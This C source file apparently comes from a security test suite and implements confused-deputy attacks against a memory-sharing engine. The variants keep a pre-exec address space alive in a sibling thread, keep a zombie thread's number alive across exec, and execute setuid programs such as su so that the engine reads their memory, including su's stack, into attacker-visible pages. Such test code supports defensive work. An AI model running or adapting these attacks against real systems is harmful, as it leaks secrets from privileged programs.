/* The confused deputy: the engine is to read a program of more rights, and to put what it read where the attacker can
 * read it. SECRET_AT is aligned to a chunk, SECRET_PAGES are its first 64. */
#include "hostile.h"
#include <sys/ptrace.h>

static struct session pair[2];
static atomic_int served;

/* Shares the address space from before the exec, and keeps it alive; answers for both sessions. */
static int stay(void *arg)
{
	(void)arg;
	struct offers bait = offer_bait();
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	/* Written all the time, the bait does not settle before the exec. */
	for (uint64_t seed = 1; seed < 40; seed++) {
		fill((void *)SECRET_AT, SECRET_PAGES, seed);
		serve(pair, 2, &bait, 20);
		if (pair[0].syncs > 1 && pair[1].syncs > 1)
			atomic_store(&served, 1);
	}
	atomic_store(&served, 1);
	serve(pair, 2, &bait, 200);
	say("ready");
	serve(pair, 2, &bait, -1);
	return 0;
}

static void wait_and_exec(char **program)
{
	while (!atomic_load(&served))
		rest(5);
	rest(20);
	execv(program[0], program);
	fail("exec");
}

/* Joins twice, as far as it may, with the bait in place. */
static void join_twice(const char *path)
{
	map_at(SECRET_AT, CHUNK / PAGE);
	int joined = 0;
	for (int i = 0; i < 2; i++)
		joined += join(&pair[i], path, "") == 0;
	if (joined == 0) {
		say("ready, refused");
		hold();
	}
	if (joined == 1)
		pair[1] = pair[0];
	if (watch(&pair[0], SECRET_AT, CHUNK, 0) < 0)
		fail("watch");
}

/* deputy PROGRAM ...: joins twice, keeps its old memory in a sibling, and becomes the setuid program. */
void deputy(const char *path, char **args)
{
	join_twice(path);
	beside(stay, NULL);
	wait_and_exec(args);
}

static char state_of(unsigned thread)
{
	char path[64], text[256] = { 0 };
	snprintf(path, sizeof path, "/proc/self/task/%u/stat", thread);
	int fd = open(path, O_RDONLY);
	ssize_t len = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
	close(fd);
	char *after = len > 0 ? strrchr(text, ')') : NULL;
	return after ? after[2] : 0;
}

/* zombie-deputy PROGRAM ...: the thread that vouched for it ends, traced and not waited for, so that its number
 * stays, also over the exec. */
void zombie_deputy(const char *path, char **args)
{
	join_twice(path);
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
	unsigned thread = second_thread();
	int traced[2];
	char byte = 0;
	if (pipe(traced))
		fail("pipe");
	if (child() == 0) {
		byte = ptrace(PTRACE_SEIZE, thread, 0, 0) == 0;
		if (write(traced[1], &byte, 1) == 1)
			hold();
	}
	if (read(traced[0], &byte, 1) != 1 || !byte)
		fail("trace");
	atomic_store(&second_thread_ends, 1);
	while (state_of(thread) != 'Z')
		rest(5);
	beside(stay, NULL);
	wait_and_exec(args);
}

/* early-deputy PROGRAM ...: connects twice, becomes the setuid program, and a child says hello for it. */
void early_deputy(const char *path, char **args)
{
	int sockets[2] = { dial(path), dial(path) };
	if (sockets[0] < 0 || sockets[1] < 0) {
		say("ready, refused");
		hold();
	}
	pid_t pid = fork();
	if (pid > 0) {
		execv(args[0], args);
		fail("exec");
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	rest(300); /* the exec, and the program's start */
	struct offers bait = offer_bait();
	int count = 0;
	for (int i = 0; i < 2; i++)
		if (say_hello(sockets[i], "") == 0 && take_welcome(&pair[count], sockets[i], 1000) == 0 &&
		    say_ready(&pair[count]) == 0)
			count++;
	say("ready, %d sessions", count);
	serve(pair, count, &bait, -1);
}

/* ---- the real su, told by the test where its stack is ---- */

static struct offers oracle;
static uint64_t oracle_at;

static int stay_for_su(void *arg)
{
	(void)arg;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	serve(pair, 2, NULL, 300);
	say("ready");
	/* A line of the test: the address and the number of the pages, in hex. */
	char line[128] = { 0 };
	if (read(0, line, sizeof line - 1) <= 0)
		_exit(0);
	uint64_t pages = 0;
	sscanf(line, "%lx %lx", &oracle_at, &pages);
	fill(map_at(oracle_at, pages), pages, 7);
	if (watch(&pair[0], oracle_at, pages * PAGE, 0) < 0)
		fail("watch");
	oracle = (struct offers){ .first = oracle_at & ~(CHUNK - 1), .chunks = 1, .again = 1 };
	for (uint64_t page = oracle_at / PAGE % 512, end = page + pages; page < end && page < 512; page++)
		oracle.pages[page / 64] |= 1ull << page % 64;
	say("offered");
	serve(pair, 2, &oracle, -1);
	return 0;
}

/* su-deputy PROGRAM ...: as deputy; then the test tells it where the program's stack is. */
void su_deputy(const char *path, char **args)
{
	int joined = 0;
	for (int i = 0; i < 2; i++)
		joined += join(&pair[i], path, "") == 0;
	if (joined == 0) {
		say("ready, refused");
		hold();
	}
	if (joined == 1)
		pair[1] = pair[0];
	beside(stay_for_su, NULL);
	rest(100);
	/* It asks for a password, and waits for it at a pipe that stays open. */
	int wait[2];
	if (pipe(wait))
		fail("pipe");
	dup2(wait[0], 0);
	execv(args[0], args);
	fail("exec");
}
